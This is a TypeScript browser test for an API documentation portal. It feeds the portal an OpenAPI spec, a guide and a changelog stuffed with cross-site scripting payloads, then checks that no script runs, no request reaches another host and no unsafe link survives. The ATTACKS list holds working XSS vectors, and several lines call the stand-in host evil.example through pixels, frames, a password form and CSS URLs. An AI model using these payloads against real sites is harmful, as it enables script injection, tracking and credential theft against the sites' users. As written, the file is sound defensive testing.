import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { launchBrowser, openPage } from './browser.ts'
import { Portal } from './portal.ts'

/** Each runs, or calls its host, where it isn't made harmless. */
const ATTACKS = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<img src="https://evil.example/pixel.png">',
  '![pixel](https://evil.example/markdown.png)',
  '<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>',
  '<svg><a xlink:href="javascript:window.pwned=1"><text>svg</text></a></svg>',
  '[link](javascript:window.pwned=1)',
  '[link](  JaVaScRiPt:window.pwned=1)',
  '[data](data:text/html,<script>window.pwned=1</script>)',
  '<a href="java&#10;script:window.pwned=1">x</a>',
  '<a href="vbscript:x" onclick="window.pwned=1" id="main">x</a>',
  '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>',
  '<form action="https://evil.example/form"><input name="password" autofocus onfocus="window.pwned=1"></form>',
  '<style>body{background:url(https://evil.example/style.png)}</style>',
  '<link rel="stylesheet" href="https://evil.example/link.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<p style="background:url(https://evil.example/attr.png)">x</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1"></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
  '</title></head></pre></code></textarea><script>window.pwned=1</script>',
  '"><script>window.pwned=1</script>',
  "' onmouseover='window.pwned=1",
  '<details open ontoggle="window.pwned=1"><summary>x</summary></details>',
  '<video><source onerror="window.pwned=1"></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  '{{constructor.constructor("window.pwned=1")()}} {window.pwned=1}',
]
const MARKDOWN = ATTACKS.join('\n\n')
/** With a word that is wider than a phone. */
const NAME = `${ATTACKS.join(' ')} ${'wide'.repeat(60)}`

const attack = '"><img src=x onerror=window.pwned=1>'
const schema = {
  title: NAME,
  description: MARKDOWN,
  properties: {
    [attack]: { type: 'string', description: MARKDOWN, default: attack, pattern: attack, example: attack, title: NAME },
    __proto__x: { enum: [attack, '</script><script>window.pwned=1</script>', 'c', 'd', 'e', 'f'] },
    choice: {
      oneOf: [
        { title: attack, properties: { a: {} } },
        { title: NAME, const: attack },
      ],
    },
  },
}

const DOCUMENT = {
  openapi: '3.1.0',
  info: {
    title: NAME,
    version: attack,
    summary: NAME,
    description: MARKDOWN,
    contact: { name: attack, url: 'javascript:window.pwned=1' },
  },
  servers: [{ url: 'javascript:window.pwned=1//{v}', description: NAME, variables: { v: { default: attack } } }],
  tags: [{ name: attack, description: MARKDOWN, externalDocs: { url: 'javascript:window.pwned=1' } }],
  externalDocs: { url: 'javascript:window.pwned=1', description: attack },
  security: [{ oauth: [attack] }, { key: [] }],
  components: {
    securitySchemes: {
      oauth: {
        type: 'oauth2',
        description: MARKDOWN,
        flows: {
          authorizationCode: {
            authorizationUrl: 'javascript:window.pwned=1',
            tokenUrl: 'https://evil.example/t',
            scopes: { [attack]: NAME },
          },
        },
      },
      key: { type: 'apiKey', in: 'header', name: attack, description: MARKDOWN },
    },
    schemas: { Thing: schema },
  },
  paths: {
    [`/things/{${attack}}`]: {
      post: {
        operationId: attack,
        summary: NAME,
        description: MARKDOWN,
        tags: [attack],
        externalDocs: { url: 'javascript:window.pwned=1', description: attack },
        parameters: [
          {
            name: attack,
            in: 'path',
            required: true,
            description: MARKDOWN,
            example: attack,
            schema: { type: 'string' },
          },
        ],
        requestBody: {
          description: MARKDOWN,
          content: {
            'application/json': {
              schema: { $ref: '#/components/schemas/Thing' },
              examples: { [attack]: { summary: NAME, description: MARKDOWN, value: { [attack]: attack } } },
            },
          },
        },
        responses: {
          200: {
            description: MARKDOWN,
            headers: { 'X-Evil': { description: MARKDOWN, schema: { type: 'string', example: attack } } },
            content: {
              'text/html': { example: MARKDOWN },
              'application/json': { schema: { $ref: '#/components/schemas/Thing' } },
            },
          },
        },
        callbacks: {
          [attack]: {
            '{$request.body#/"><script>}': {
              post: { summary: NAME, description: MARKDOWN, responses: { 200: { description: MARKDOWN } } },
            },
          },
        },
      },
    },
  },
  webhooks: {
    [attack]: { post: { summary: NAME, description: MARKDOWN, responses: { 200: { description: MARKDOWN } } } },
  },
}

/** A document that wants to run scripts in its readers' browsers, or to know who they are. */
describe('a hostile document', () => {
  let specs: string
  let portal: Portal
  let browser: Browser

  beforeAll(async () => {
    specs = await mkdtemp(join(tmpdir(), 'sallyport-specs-'))
    await mkdir(join(specs, 'evil/guides'), { recursive: true })
    await writeFile(join(specs, 'evil/openapi.json'), JSON.stringify(DOCUMENT))
    await writeFile(join(specs, 'evil/guides/guide.md'), `# ${NAME}\n\n${MARKDOWN}`)
    await writeFile(join(specs, 'evil/CHANGELOG.md'), MARKDOWN)
    portal = await Portal.start({ SPECS_DIR: specs })
    browser = await launchBrowser()
  })

  afterAll(async () => {
    await browser?.close()
    await portal?.destroy()
    await rm(specs, { recursive: true, force: true })
  })

  test('no script runs, nothing is asked of another host, no link is alive that shouldn’t be', async () => {
    const page = await openPage(browser)
    await page.setViewportSize({ width: 375, height: 800 })
    const foreign: string[] = []
    page.on('request', (request) => {
      if (!/^(data|about):/.test(request.url()) && new URL(request.url()).origin !== portal.url)
        foreign.push(request.url())
    })
    page.on('dialog', (dialog) => void dialog.dismiss())
    const paths = new Set([
      '/',
      '/apis',
      '/apis/evil',
      '/search?q=script',
      '/search?q=things&as=anyone',
      `/search?q=${encodeURIComponent(NAME)}`,
    ])
    const visited: string[] = []
    for (const path of paths) {
      const response = await page.goto(portal.url + path, { waitUntil: 'networkidle' })
      expect(response?.status(), path).toBe(200)
      // Whatever is folded could hold a surprise.
      await page.evaluate(() => {
        for (const details of document.querySelectorAll('details')) details.open = true
      })
      await page.mouse.move(300, 300)
      const found = await page.evaluate(() => ({
        pwned: Reflect.get(window, 'pwned'),
        links: [...document.querySelectorAll('a[href], form[action], [src], object[data]')].flatMap((element) =>
          ['href', 'action', 'src', 'data'].flatMap((name) => element.getAttribute(name) ?? []),
        ),
        posted: [...document.querySelectorAll('form[method=post]')].map((form) => form.getAttribute('action')),
        handlers: [...document.querySelectorAll('*')].flatMap(({ attributes }) =>
          [...attributes].map(({ name }) => name).filter((name) => name.startsWith('on') || name === 'style'),
        ),
        mains: document.querySelectorAll('#main').length,
        beyond: document.documentElement.scrollWidth - innerWidth,
      }))
      expect(found.pwned, path).toBeUndefined()
      expect(found.handlers, path).toEqual([])
      expect(found.mains, path).toBe(1)
      expect(found.beyond, path).toBe(0)
      for (const link of found.links)
        expect(['http:', 'https:', 'mailto:'], link).toContain(new URL(link, portal.url).protocol)
      for (const link of found.links.filter((one) => !found.posted.includes(one)))
        if (/^\/apis\/evil(\/|\?|$)/.test(link) && !/\.(json|yaml|tgz|csv|md|txt|xml)([?#]|$)/.test(link))
          paths.add(link.replace(/#.*/, ''))
      visited.push(path)
    }
    for (const kind of ['operations', 'schemas', 'guides', 'scopes', 'webhooks', 'sdks'])
      expect(
        visited.some((path) => path.startsWith(`/apis/evil/${kind}`)),
        kind,
      ).toBe(true)
    expect(foreign).toEqual([])
    expect(page.faults).toEqual([])
  })

  test('what machines read isn’t taken for HTML', async () => {
    for (const path of [
      '/apis/evil.md',
      '/apis/evil/llms-full.txt',
      '/llms.txt',
      '/sitemap.xml',
      '/apis/evil/openapi.json',
      '/apis/evil/scopes.csv',
    ]) {
      const response = await fetch(portal.url + path)
      expect(response.status, path).toBe(200)
      expect(response.headers.get('content-type'), path).not.toMatch(/html/)
      expect(response.headers.get('x-content-type-options'), path).toBe('nosniff')
      expect(response.headers.get('content-security-policy'), path).toContain("default-src 'none'")
    }
  })
})
